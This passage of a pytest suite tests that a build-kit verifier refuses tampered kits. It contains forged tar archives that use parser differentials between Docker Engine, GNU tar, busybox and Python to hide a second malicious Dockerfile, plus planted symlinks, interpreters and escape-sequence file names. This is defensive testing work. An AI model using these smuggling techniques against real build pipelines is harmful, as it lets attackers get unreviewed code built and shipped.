    assert "ok:" not in shown.stdout
    with pytest.raises(VerificationError, match=message.split(":")[0]):
        rebuild(folder, FakeEngine())


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize("name", ["sub/../Dockerfile", "/../Dockerfile"])
def test_a_second_dockerfile_whose_name_the_engine_cleans_onto_the_dockerfile_is_refused(busybox_product, tmp_path,
                                                                                         shell, name):
    # Engine 20.10 unpacks a context's names cleaned from its root (Go's filepath.Clean): both build EVIL.
    # verify.sh (GNU tar lists "sub/../Dockerfile" as it is) passed the first, the rebuild the second
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    rewrite_context(folder, [entry(name, EVIL)])
    shown = verify_sh(folder, shell)
    assert shown.returncode == 3 and "error: context.tar: its Dockerfile is not the kit's Dockerfile" in shown.stderr, \
        (shown.stdout, shown.stderr)
    with pytest.raises(VerificationError, match="its Dockerfile is not the kit's Dockerfile"):
        rebuild(folder, FakeEngine())


def pax_record(key: str, value: str) -> bytes:
    """One record of a pax extended header: its length counts its own digits."""
    body = f" {key}={value}\n"
    length = len(body) + 1
    while len(f"{length}{body}") != length:
        length = len(f"{length}{body}")
    return f"{length}{body}".encode()


@pytest.mark.parametrize("shell", SHELLS)
def test_a_second_dockerfile_renamed_by_a_global_header_the_engine_ignores_is_refused(busybox_product, tmp_path,
                                                                                      shell):
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    # long and non-ASCII names get a pax header of their own ('x'), as unibake writes them: they pass
    rewrite_context(folder, [entry("a/" + "b" * 120 + "/f", b"x" * 1000), entry("na\u00efve", b"y")])
    assert verify_sh(folder, shell).returncode == 0
    check_kit(folder)  # the rebuild's check too (before: "'na\u00efve' has more than one pax header", exit 3)
    # Python's tarfile and GNU tar list the second Dockerfile as "zzz"; Engine 20.10 ignores the global
    # header and builds EVIL (busybox's tar ignores it too: it always saw two Dockerfiles)
    rewrite_context(folder, [entry("pax_global_header", pax_record("path", "zzz"), type=tarfile.XGLTYPE),
                             entry("Dockerfile", EVIL)])
    shown = verify_sh(folder, shell)
    assert shown.returncode == 3 and "error: context.tar: " in shown.stderr, (shown.stdout, shown.stderr)
    with pytest.raises(VerificationError, match=r"a global extended header \(pax 'g'\), which the engine ignores"):
        rebuild(folder, FakeEngine())


def header(info: tarfile.TarInfo) -> bytes:
    """A member's header as ustar writes it, for a context forged block by block."""
    return info.tobuf(tarfile.USTAR_FORMAT, "utf-8", "surrogateescape")


def padded(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % 512)


def unpacked_context(product: Path, tmp_path: Path) -> tuple[Path, bytes]:
    """A kit unpacked, and its context.tar's members written again as ustar, without the end blocks."""
    kit, _ = make_kit(product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    with tarfile.open(folder / "context.tar") as tar:
        entries = [(m, tar.extractfile(m).read() if m.isfile() else b"") for m in tar.getmembers()]
    return folder, b"".join(header(info) + padded(data) for info, data in entries)


@pytest.mark.parametrize("shell", SHELLS)
def test_a_second_dockerfile_hidden_by_a_pax_size_that_busybox_ignores_is_refused(busybox_product, tmp_path, shell):
    folder, forged = unpacked_context(busybox_product, tmp_path)
    # "pad": 0 bytes by its header, 512 by its pax header. The engine (and GNU tar, and Python) skip 512
    # bytes and read EVIL as the last Dockerfile; busybox's tar reads those bytes as the header of
    # "cover", 1024 bytes long, which hides EVIL from its listing
    size = pax_record("size", "512")
    extended, pad, cover, evil = (tarfile.TarInfo(name) for name in ("PaxHeaders/pad", "pad", "cover", "Dockerfile"))
    extended.type, extended.size, cover.size, evil.size = tarfile.XHDTYPE, len(size), 1024, len(EVIL)
    forged += header(extended) + padded(size) + header(pad) + header(cover) + header(evil) + padded(EVIL) + b"\0" * 1024
    (folder / "context.tar").write_bytes(forged)
    agree_with_context(folder)
    shown = verify_sh(folder, shell)
    assert shown.returncode == 3 and "error: context.tar: " in shown.stderr, (shown.stdout, shown.stderr)
    with pytest.raises(VerificationError, match="'pad' has a pax header that sets a size"):  # as verify.sh says
        rebuild(folder, FakeEngine())


@pytest.mark.parametrize("shell", SHELLS)
def test_a_second_dockerfile_hidden_as_a_folder_s_content_is_refused(busybox_product, tmp_path, shell):
    # found by review: a folder "d/" whose header says 2048 bytes: verify.sh skipped them as its content, where the
    # engine, GNU tar and Python read them as headers: a global header renaming the next member for GNU tar (which
    # the engine ignores), then EVIL as a second Dockerfile. verify.sh said "ok"
    folder, forged = unpacked_context(busybox_product, tmp_path)
    rename = pax_record("path", "foo")
    hider, glob, evil = tarfile.TarInfo("d/"), tarfile.TarInfo("pax_global_header"), tarfile.TarInfo("Dockerfile")
    glob.type, glob.size, evil.size = tarfile.XGLTYPE, len(rename), len(EVIL)
    hidden = header(glob) + padded(rename) + header(evil) + padded(EVIL)
    hider.type, hider.size = tarfile.DIRTYPE, len(hidden)
    forged += header(hider) + hidden + b"\0" * 1024
    (folder / "context.tar").write_bytes(forged)
    refused_by_both(folder, shell, "a folder's header at block", "the folder 'd' has a size in its header")


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize("form", ["gnu magic and a prefix", "star trailer", "GNU.sparse.name", "two pax headers",
                                  "checksum after a NUL", "a pax length with a plus sign", "an empty pax header"])
def test_a_second_dockerfile_named_otherwise_for_the_engine_than_for_tar_and_python_is_refused(busybox_product,
                                                                                             tmp_path, shell, form):
    # each builds EVIL on Engine 20.10 (tried): Go reads the GNU-magic header's prefix "0" as an access time
    # (the name: Dockerfile; Python's tarfile and busybox read 0/Dockerfile); with "tar" at byte 508 Go reads
    # a prefix of 131 bytes, "x/////.." (Python and GNU tar read 155, a folder "..0000..." in it); Go takes
    # GNU.sparse.name only for a sparse file (Python and GNU tar rename the member "zzz"); of two pax headers
    # Go takes the second's path, Python the first's; a checksum written "\0NNNNNN " Go reads, while Python
    # (and busybox) stop there as at the end. Python passed all five, verify.sh the star form (and busybox's
    # the last). A pax record "+20 path=Dockerfile": Go reads the length with its sign and renames the member,
    # Python stops reading the header and keeps "notes.txt", GNU and busybox tar call it malformed and go on
    # (found by probing: verify.sh passed it). A pax header of no records names nothing otherwise, but is no
    # header unibake writes: refused too (its empty size was a ValueError traceback in the rebuild's check)
    folder, end = context_end(busybox_product, tmp_path)
    info = tarfile.TarInfo("Dockerfile")
    info.size = len(EVIL)
    extra = b""
    if form == "gnu magic and a prefix":
        header = bytearray(info.tobuf(tarfile.GNU_FORMAT)[:512])
        header[345:346] = b"0"
    elif form == "star trailer":
        header = bytearray(info.tobuf(tarfile.USTAR_FORMAT))
        header[345:476] = b"x" + b"/" * 127 + b"/.."
        header[476:500] = b"00000000000 00000000000 "
        header[508:512] = b"tar\0"
    elif form == "checksum after a NUL":
        header = bytearray(info.tobuf(tarfile.USTAR_FORMAT))
    else:
        records = [pax_record("GNU.sparse.name", "zzz")] if form == "GNU.sparse.name" else \
            [b"+20 path=Dockerfile\n"] if form == "a pax length with a plus sign" else \
            [b""] if form == "an empty pax header" else \
            [pax_record("path", "zzz"), pax_record("path", "Dockerfile")]
        for record in records:
            extended = tarfile.TarInfo("PaxHeaders/Dockerfile")
            extended.type, extended.size = tarfile.XHDTYPE, len(record)
            extra += extended.tobuf(tarfile.USTAR_FORMAT) + record + b"\0" * (-len(record) % 512)
        if form == "two pax headers":
            info.name = "q"
        elif form in ("a pax length with a plus sign", "an empty pax header"):
            info.name = "notes.txt"
        header = bytearray(info.tobuf(tarfile.USTAR_FORMAT))
    header[148:156] = b" " * 8
    header[148:156] = (b"\0%06o " if form == "checksum after a NUL" else b"%06o\0 ") % sum(header)
    forged = (folder / "context.tar").read_bytes()[:end] + extra + bytes(header) + EVIL + \
        b"\0" * (-len(EVIL) % 512 + 1024)
    (folder / "context.tar").write_bytes(forged)
    with tarfile.open(folder / "context.tar") as tar:
        assert tar.getnames().count("Dockerfile") == 1  # what this reader saw
    agree_with_context(folder)
    shown = verify_sh(folder, shell)
    assert shown.returncode == 3 and "error: context.tar: " in shown.stderr, (shown.stdout, shown.stderr)
    assert "ok:" not in shown.stdout
    with pytest.raises(VerificationError, match="context.tar: .*(not POSIX ustar|GNU sparse field|more than one pax|cannot read|"
                                                "not one unibake writes)"):
        rebuild(folder, FakeEngine())


@pytest.mark.parametrize("shell", SHELLS)
def test_a_file_whose_name_is_not_utf8_is_unlisted_for_verify_sh_in_a_utf8_locale_too(busybox_product, tmp_path, shell):
    # found by probing: under LANG=C.UTF-8, grep left out such names ("binary file matches"), so a folder
    # "tool/\xff-hidden/" passed verify.sh unlisted, where the rebuild refused it
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    os.makedirs(os.path.join(os.fsencode(folder), b"tool/\xff-hidden"))
    with open(os.path.join(os.fsencode(folder), b"tool/\xff-hidden/payload.py"), "wb") as f:
        f.write(b"print(1)\n")
    # a second one, whose name would drive the terminal: shown with '?' for its control bytes, one line; as the
    # text is not UTF-8, each byte above 127 as '?' too (a lone 0x9b is CSI to a terminal that takes 8-bit controls)
    (folder / "x\x1b[2J\u202ey").write_text("")
    shown = subprocess.run([*(["busybox", "sh"] if shell == "busybox" else ["sh"]), "./verify.sh"], cwd=folder,
                           capture_output=True, timeout=60, env={**os.environ, "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8"})
    assert shown.returncode == 3 and shown.stderr == \
        b"error: not listed in kit.sha256: tool/?-hidden/payload.py x?[2J?y\n", shown.stderr
    with pytest.raises(VerificationError, match="not listed in kit.sha256"):
        check_kit(folder)


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize("name", ["kit.json", "context.tar", "Dockerfile"])
def test_a_kit_without_a_file_it_needs_and_its_ledger_line_is_refused_in_one_line(busybox_product, tmp_path, shell,
                                                                                  name):
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    (folder / name).unlink()
    relist(folder, [line for line in (folder / "kit.sha256").read_text().splitlines() if line[66:] != name])
    # before: verify.sh ended with sed's, tar's or od's complaint alone (exit 2 or 1, no error line), or after
    # the shell's "cannot open Dockerfile"; the rebuild said "context.tar: No such file or directory", exit 1
    result = verify_sh(folder, shell)
    assert (result.returncode, result.stderr) == (3, f"error: kit.sha256: does not list {name}, which every kit "
                                                     "holds\n"), (result.stdout, result.stderr)
    with pytest.raises(VerificationError, match=f"^{re.escape(str(folder))}: kit.sha256: does not list "
                                                f"{re.escape(name)}, which every kit holds$"):
        rebuild(folder, FakeEngine())


@pytest.mark.parametrize("shell", SHELLS)
def test_verify_sh_refuses_a_context_that_is_not_kit_json_s_as_the_rebuild_does(busybox_product, tmp_path, shell):
    folder, _ = context_end(busybox_product, tmp_path)
    with tarfile.open(folder / "context.tar") as tar:
        entries = [(m, tar.extractfile(m).read() if m.isfile() else None) for m in tar.getmembers()]
    with tarfile.open(folder / "context.tar", "w", format=tarfile.PAX_FORMAT) as tar:  # one more file in it
        for info, data in [*entries, entry("extra.txt", b"not the release's\n", mode=0o644)]:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    relist_file(folder, "context.tar")  # the ledger made to match, kit.json left as it was
    result = verify_sh(folder, shell)  # before: "ok", and the rebuild then refused the kit
    assert (result.returncode, result.stderr) == (3, "error: context.tar: its sha256 differs from kit.json's "
                                                     "context_sha256\n"), (result.stdout, result.stderr)
    with pytest.raises(VerificationError, match="context.tar: its sha256 differs from kit.json's context_sha256"):
        rebuild(folder, FakeEngine())


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize("data, says", [(b"garbage\n" * 3, "ends at block 0 without its end-of-archive blocks"),
                                        (b"x" * 2048, "a header at block 0 without an octal size")])
def test_verify_sh_refuses_a_context_that_is_no_tar_in_its_own_line_alone(busybox_product, tmp_path, shell, data,
                                                                          says):
    folder, _ = context_end(busybox_product, tmp_path)
    (folder / "context.tar").write_bytes(data)
    agree_with_context(folder)  # kit.json and the ledger made to match
    result = verify_sh(folder, shell)  # before: tar's own complaints first ("This does not look like a tar archive")
    assert (result.returncode, result.stderr) == (3, f"error: context.tar: {says}\n"), (result.stdout, result.stderr)


def test_verify_sh_interrupted_exits_130_and_leaves_no_temporary_file(busybox_product, tmp_path):
    """(sh alone: busybox sh runs its own sha256sum applet, which no PATH entry can hold up)"""
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    tools, temp = tmp_path / "tools", tmp_path / "temp"
    tools.mkdir()
    temp.mkdir()
    slow = tools / "sha256sum"  # the ledger's check, held until the interrupt
    slow.write_text(f"#!/bin/sh\ntouch {tmp_path}/hashing\nexec sleep 30\n")
    slow.chmod(0o755)
    env = {**os.environ, "PATH": f"{tools}:{os.environ['PATH']}", "TMPDIR": str(temp)}
    proc = subprocess.Popen(["sh", "./verify.sh"], cwd=folder, env=env, start_new_session=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        for _ in range(300):
            if (tmp_path / "hashing").exists():
                break
            time.sleep(0.05)
        assert (tmp_path / "hashing").exists() and len(list(temp.iterdir())) == 2  # its two lists, made
        os.killpg(proc.pid, signal.SIGINT)  # ^C: to the whole process group, as a terminal sends it
        proc.wait(timeout=20)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    # before: ended by the signal itself, its two lists left in TMPDIR
    assert proc.returncode == 130 and list(temp.iterdir()) == [], (proc.returncode, list(temp.iterdir()))


def test_a_kit_with_folders_nested_1500_deep_is_checked_not_a_traceback(busybox_product, tmp_path):
    # found by review: pathlib's rglob recursed once per folder, a RecursionError traceback from `rebuild`
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    deep = folder
    try:
        for _ in range(1500):  # (one at a time: Path.mkdir's parents=True recurses too)
            deep = deep / "a"
            deep.mkdir()
        check_kit(folder)  # empty folders: nothing unlisted, as verify.sh finds
        assert verify_sh(folder, "sh").returncode == 0
        (deep / "payload.py").write_text("print(1)\n")
        with pytest.raises(VerificationError, match=r"a/a/a/.*/payload\.py: not listed in kit\.sha256"):
            check_kit(folder)
    finally:  # removed here, one folder at a time: pytest's clean-up of old temporary folders recurses (shutil.rmtree)
        (deep / "payload.py").unlink(missing_ok=True)
        while deep != folder:
            deep.rmdir()
            deep = deep.parent


@pytest.mark.parametrize("shell", SHELLS)
def test_verify_sh_refuses_a_file_whose_name_holds_a_newline(busybox_product, tmp_path, shell):
    # "kit.sha256\nkit.sha256" listed one name a line reads as two names verify.sh skips
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    assert verify_sh(folder, shell).returncode == 0
    (folder / "kit.sha256\nkit.sha256").touch()
    shown = verify_sh(folder, shell)
    assert shown.returncode == 3 and shown.stderr.endswith(
        "error: a file whose name holds a newline (kit.sha256 cannot list it)\n"), shown.stderr
    assert check_ledger(folder) != []


RECENT = "import sys; sys.exit(sys.version_info < (3, 11))"  # verify.sh's question to an interpreter


def fake_pythons(tmp_path: Path, **scripts: str) -> Path:
    """A folder of interpreters, each a shell script (by name); python3.11 to 3.14 there are none."""
    fake = tmp_path / "bin"
    fake.mkdir(exist_ok=True)
    for name in ("python3.11", "python3.12", "python3.13", "python3.14"):
        scripts.setdefault(name, "exit 1")
    for name, script in scripts.items():
        (fake / name).write_text(f"#!/bin/sh\n{script}\n")
        (fake / name).chmod(0o755)
    return fake


def rebuild_env(tmp_path: Path, **env: str) -> dict[str, str]:
    """A python3 of 3.11 or newer without unibake's requirements (so verify.sh --rebuild makes its venv), and ``env``."""
    fake = fake_pythons(tmp_path, python3=f'[ "$2" = "{RECENT}" ]')
    return {"PATH": f"{fake}:{os.environ['PATH']}", **env}


def old_python(ran: Path) -> str:
    """Python 3.9 with every package unibake needs: its build.py says to run scripts/setup.sh."""
    return (f'case "$2" in "{RECENT}") exit 1 ;; *sys.version*) echo Python 3.9.2; exit 0 ;; "import "*) exit 0 ;; esac\n'
            f'touch {ran}; echo "error: unibake needs Python 3.11 or newer; run scripts/setup.sh" >&2; exit 2')


@pytest.mark.parametrize("shell", SHELLS)
def test_verify_sh_rebuilds_with_a_python_of_3_11_or_newer_or_says_it_needs_one(busybox_product, tmp_path, shell):
    # (before: a python3 3.9 that had the packages was taken, and build.py said to run scripts/setup.sh,
    # which a kit lacks)
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    ran = tmp_path / "old-python-ran"
    fake = fake_pythons(tmp_path, python3=old_python(ran))
    env = {"PATH": f"{fake}:{os.environ['PATH']}", "HOME": str(tmp_path / "home")}
    none = verify_sh(folder, shell, "--rebuild", env=env)
    assert none.returncode == 2 and none.stderr == (
        "error: the rebuild needs Python 3.11 or newer; python3 here is Python 3.9.2: install one (as python3.11 or later), "
        "or name it with UNIBAKE_PYTHON\n"), none.stderr
    named = verify_sh(folder, shell, "--rebuild", env={**env, "UNIBAKE_PYTHON": str(fake / "python3")})
    assert named.returncode == 2 and named.stderr.startswith(
        f"error: UNIBAKE_PYTHON={fake / 'python3'} is Python 3.9.2; unibake needs Python 3.11 or newer"), named.stderr
    bare = tmp_path / "bare-python"
    bare.write_text(f'#!/bin/sh\n[ "$2" = "{RECENT}" ]\n')
    bare.chmod(0o755)
    lacking = verify_sh(folder, shell, "--rebuild", env={**env, "UNIBAKE_PYTHON": str(bare)})
    assert lacking.returncode == 2 and lacking.stderr.startswith(
        f"error: UNIBAKE_PYTHON={bare} lacks what unibake needs: install tool/requirements.txt with it"), lacking.stderr
    assert not ran.exists()
    # a python3.12 beside it that has the packages is the one that rebuilds
    rebuilt = tmp_path / "python3.12-rebuilt"
    fake_pythons(tmp_path, python3=old_python(ran), **{"python3.12": f'case "$2" in "{RECENT}"|"import "*) exit 0 ;; esac\n'
                                                                   f'touch {rebuilt}'})
    picked = verify_sh(folder, shell, "--rebuild", env=env)
    assert picked.returncode == 0 and rebuilt.exists() and not ran.exists(), picked.stderr


@pytest.mark.parametrize("shell", SHELLS)
@pytest.mark.parametrize("writable", ["cache", "unibake", "venv", pytest.param(
    "another user's venv", marks=pytest.mark.skipif(os.geteuid() != 0, reason="chown needs root"))])
def test_verify_sh_never_runs_an_interpreter_from_a_folder_others_can_write(busybox_product, tmp_path, shell,
                                                                          writable):
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    # another user's interpreter, where verify.sh would look for its venv (as /tmp/.cache once was)
    cache = tmp_path / "cache"
    sha = hashlib.sha256((folder / "tool/requirements.txt").read_bytes()).hexdigest()[:16]
    folders = {"cache": cache, "unibake": cache / "unibake", "venv": cache / "unibake" / f"kit-venv-{sha}"}
    (folders["venv"] / "bin").mkdir(parents=True)
    planted = tmp_path / "planted-ran"
    (folders["venv"] / "bin/python").write_text(f"#!/bin/sh\ntouch {planted}\n")
    (folders["venv"] / "bin/python").chmod(0o755)
    for name, path in folders.items():
        path.chmod(0o777 if name == writable else 0o700)
    if writable == "another user's venv":
        os.chown(folders["venv"], 65534, 65534)
    shown = verify_sh(folder, shell, "--rebuild", env=rebuild_env(tmp_path, XDG_CACHE_HOME=str(cache)))
    assert shown.returncode == 3 and "not a folder of yours that only you can write" in shown.stderr.splitlines()[-1], \
        shown.stderr
    assert not planted.exists()


@pytest.mark.parametrize("shell", SHELLS)
def test_verify_sh_makes_its_venv_only_in_a_private_cache_folder(busybox_product, tmp_path, shell):
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    # no HOME, no XDG_CACHE_HOME: no shared fallback such as /tmp/.cache
    nowhere = verify_sh(folder, shell, "--rebuild", env=rebuild_env(tmp_path))
    assert nowhere.returncode == 2 and nowhere.stderr.startswith(
        "error: neither XDG_CACHE_HOME nor HOME is an absolute path: no cache folder of yours"), nowhere.stderr
    # HOME alone: its .cache, the two folders below made for the user alone (then the fake python3 fails,
    # having noted the venv folder's mode: the folder is removed, half made)
    mode = tmp_path / "venv-mode"
    env = rebuild_env(tmp_path, HOME=str(tmp_path / "home"))
    fake_pythons(tmp_path, python3=f'[ "$2" = "{RECENT}" ] && exit 0\n[ "$2" = venv ] && stat -c %a "$4" > {mode}\nexit 1')
    made = verify_sh(folder, shell, "--rebuild", env=env)
    assert made.returncode == 3 and made.stderr.endswith("error: python3 -m venv failed (Debian: apt-get install "
                                                          "python3-venv)\n"), made.stderr
    assert mode.read_text() == "700\n" and list((tmp_path / "home/.cache/unibake").iterdir()) == []
    assert (tmp_path / "home/.cache/unibake").stat().st_mode & 0o777 == 0o700


@pytest.mark.parametrize("shell", SHELLS)
def test_verify_sh_removes_the_venv_it_began_when_pip_fails(busybox_product, tmp_path, shell):
    # (before: the venv python3 -m venv made stayed in the user's cache, without the packages pip failed on)
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    env = rebuild_env(tmp_path, HOME=str(tmp_path / "home"))
    # python3 -m venv makes a venv whose pip fails (as one offline, or refused by the index, does)
    fake_pythons(tmp_path, python3=f'[ "$2" = "{RECENT}" ] && exit 0; [ "$2" = venv ] || exit 1\n'
                                   'mkdir -p "$4/bin" && printf "#!/bin/sh\\nexit 1\\n" > "$4/bin/python" && '
                                   'printf "#!/bin/sh\\necho ERROR: No matching distribution >&2; exit 1\\n" '
                                   '> "$4/bin/pip" && '
                                   'chmod +x "$4/bin/python" "$4/bin/pip"')
    failed = verify_sh(folder, shell, "--rebuild", env=env)
    begun = next(line for line in failed.stdout.splitlines() if line.startswith("== python3 -m venv"))
    venv = begun.split()[5].rstrip(";")
    assert failed.returncode == 3 and failed.stderr.endswith(
        f"error: pip could not install tool/requirements.txt (the virtual environment begun in {venv} is removed)\n"), \
        failed.stdout + failed.stderr
    assert "ERROR: No matching distribution" in failed.stderr
    assert list((tmp_path / "home/.cache/unibake").iterdir()) == []


def test_kit_after_an_input_changed_names_it_in_plain_words(cli, tmp_path, demo_product):
    tune = sorted((demo_product.parent / "images/tune/tp2").iterdir())[0]
    tune.write_text(tune.read_text() + "\n")
    assert cli("lock", "--config", str(demo_product)).code == 0  # the lock agrees: the release does not
    folder = tmp_path / "out" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(demo_product))
    revision = json.loads((folder / "manifest.json").read_text())["revision"]
    assert refused.code == 2 and refused.error_lines == [
        f"error: input images/tune/tp2/{tune.name} differs from the one release 1.3.1 ({folder}) was built from (its "
        f"provenance lists them); check out the revision it was built from ({revision})"], refused.err


def _the_demo_release_without_its_kit(tmp_path):
    """A copy of release/1.3.1 that published no kit (the one written now is taken as is), unsigned, re-summed."""
    folder = tmp_path / "release" / "1.3.1"
    shutil.copytree(REPO / "release/1.3.1", folder)
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["supply_chain"]["kit"] = None  # a release that published no kit: the one written now is taken as is
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
    for name in os.listdir(folder):
        if name.startswith("SHA256SUMS."):
            os.unlink(folder / name)
    resum(folder)
    return folder


def test_the_kit_command_writes_no_kit_through_a_link_planted_as_its_temporary_file(cli, tmp_path):
    # (before: kit --out DIR wrote DIR/.NAME.tmp through a link planted there, over the file it named)
    folder = _the_demo_release_without_its_kit(tmp_path)
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    (tmp_path / "kit").mkdir()
    (tmp_path / "kit" / f".{kit_name('demo-llm', '1.3.1')}.tmp").symlink_to(victim)
    result = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(REPO / "profiles"))
    assert result.code == 0, result.err
    assert victim.read_text() == "precious\n" and os.listdir(tmp_path / "kit") == [kit_name("demo-llm", "1.3.1")]


@pytest.mark.parametrize("errno_", ["ENOSPC", "EIO"])
def test_kit_on_a_full_disk_names_out_and_leaves_nothing(cli, tmp_path, monkeypatch, errno_):
    # (before: error: a file: No space left on device, naming neither --out nor the kit)
    import errno

    from unibake import kit

    folder = _the_demo_release_without_its_kit(tmp_path)
    real = kit.open_new

    class Full(io.RawIOBase):  # the disk fills after 64 KiB of the kit
        def __init__(self, fh):
            self.fh, self.bytes = fh, 0

        def write(self, data):
            self.bytes += len(data)
            if self.bytes > 64 << 10:
                raise OSError(getattr(errno, errno_), os.strerror(getattr(errno, errno_)))
            return self.fh.write(data)

        def writable(self):
            return True

        def fileno(self):
            return self.fh.fileno()

        def close(self):
            self.fh.close()
            super().close()

    monkeypatch.setattr(kit, "open_new", lambda path, *args: Full(real(path, *args)))
    (tmp_path / "kits").mkdir()
    out = tmp_path / "kits" / "new"
    failed = cli("kit", str(folder), "--out", str(out), "--config", str(REPO / "profiles"))
    said = (f"no space left in {out} while writing the kit demo-llm-1.3.1-kit.tar.zst" if errno_ == "ENOSPC" else
            f"cannot write the kit demo-llm-1.3.1-kit.tar.zst in {out} (Input/output error)")
    assert failed.code == 1 and failed.error_lines == [f"error: {said}; nothing written"], failed.err
    assert os.listdir(tmp_path / "kits") == []


@pytest.mark.parametrize("shell", SHELLS)
def test_verify_sh_run_through_a_link_or_from_a_folder_named_like_a_cd_option_checks_its_own_kit(
        busybox_product, tmp_path, shell):
    # (before: cd "$(dirname "$0")" went into the link's folder, "kit.sha256 is missing" (exit 3), and for a
    # kit folder named "-P" to $HOME, checking whatever kit $HOME held)
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    command = ["busybox", "sh"] if shell == "busybox" else ["sh"]
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "verify-kit").symlink_to(folder / "verify.sh")
    linked = subprocess.run([*command, "bin/verify-kit"], cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert linked.returncode == 0 and "files match kit.sha256" in linked.stdout, linked.stderr
    named = folder.rename(tmp_path / "-P")
    home = tmp_path / "home"
    shutil.copytree(named, home)
    (home / "kit.sha256").write_text("")  # another kit in $HOME: never the one checked
    optioned = subprocess.run([*command, "--", "-P/verify.sh"], cwd=tmp_path, capture_output=True, text=True,
                              timeout=60, env={**os.environ, "HOME": str(home)})
    assert optioned.returncode == 0 and "files match kit.sha256" in optioned.stdout, optioned.stderr


def test_rebuild_of_the_folder_a_kit_was_unpacked_in_or_of_its_release_names_the_kit_folder(
        busybox_product, tmp_path, cli):
    # "unpacked in an empty folder" gives that folder one subfolder, <product>-<release>-kit/: rebuilding
    # the folder it was unpacked in said "kit.sha256: missing; not a reconstruct kit folder" (exit 3)
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    folder = unpack(kit, tmp_path / "unpacked")
    refused = cli("rebuild", str(tmp_path / "unpacked"))
    assert refused.code == 2 and refused.error_lines == [
        f"error: {tmp_path / 'unpacked'}: the folder a kit was unpacked in, not the kit: its tarball holds the folder "
        f"{folder.name}/; rebuild {folder}"]
    # a release folder: the kit it holds is named, to unpack (the hint said "rebuild DIR" of a folder that
    # `build.py kit --out DIR` fills with the tarball, not with a kit)
    release = tmp_path / "release" / "0.1.0"
    release.mkdir(parents=True)
    (release / "manifest.json").write_text("{}")
    shutil.copy(kit, release)
    refused = cli("rebuild", str(release))
    assert refused.code == 2 and refused.error_lines == [
        f"error: {release}: a release folder, not a kit: unpack its kit (`mkdir kit && zstd -dc {release / kit.name} | "
        f"tar -x -C kit`) and rebuild kit/{folder.name}"]


def test_rebuild_of_the_folder_kit_out_wrote_says_to_unpack_the_tarball_and_names_the_kit(busybox_product,
                                                                                            tmp_path, cli):
    # `build.py kit RELEASE --out DIR` then `build.py rebuild DIR`, as an adopter first tries: it said
    # "DIR/kit.sha256: missing; not a reconstruct kit folder" and exit 3 (a failed check, not a wrong folder)
    kit, _ = make_kit(busybox_product, tmp_path / "out")
    refused = cli("rebuild", "out", cwd=tmp_path)
    assert refused.code == 2 and refused.error_lines == [
        f"error: out: holds the kit's tarball, not an unpacked kit: unpack it (`zstd -dc out/{kit.name} | tar -x -C "
        f"out`) and rebuild out/{kit.name.removesuffix('.tar.zst')}"]
    command = refused.error_lines[0].split("`")[1]
    done = subprocess.run(["sh", "-c", command], cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "out" / kit.name.removesuffix(".tar.zst") / "kit.json").is_file()


def test_kit_of_a_release_made_by_archive_says_it_was_not_built_from_profiles(engines, tmp_path, cli):
    # its provenance names the image it was made from and no inputs: the kit command said "input ... is
    # not one release 1.0 was built from; check out the revision it was built from", of the right revision
    folder = archive_release(engines, tmp_path / "release")["release"].folder
    refused = cli("kit", str(folder), "--out", str(tmp_path / "kit"), "--config", str(REPO / "profiles"))
    assert refused.code == 2 and refused.error_lines == [
        f"error: release 1.0 ({folder}) was released with `archive` from the image demo:1.0, not built from "
        "profiles: its provenance lists no inputs, so it has no kit (a build from profiles has one)"]
    assert not (tmp_path / "kit").exists()


def test_a_profile_or_lock_edited_while_the_image_builds_is_recorded_and_kept_as_it_was_planned(busybox_product,
                                                                                               tmp_path):
    # the context is rendered from the files as planned; the provenance hashed, and the kit copied, the
    # files as the build's end found them: an edit meanwhile (the next version's profile) made both say
    # the release was built from it, and `build.py kit` could then never write the kit again
    from unibake.supply import materials

    plan = make_plan(busybox_product, cwd=busybox_product.parent)
    context = render(plan)
    lock = (plan.config_dir / "inputs.lock").relative_to(plan.project_root).as_posix()
    planned = {rel: (plan.project_root / rel).read_bytes() for rel in (*plan.config_files, lock)}
    for rel in planned:
        with open(plan.project_root / rel, "a") as fh:
            fh.write("# edited while the image builds\n")
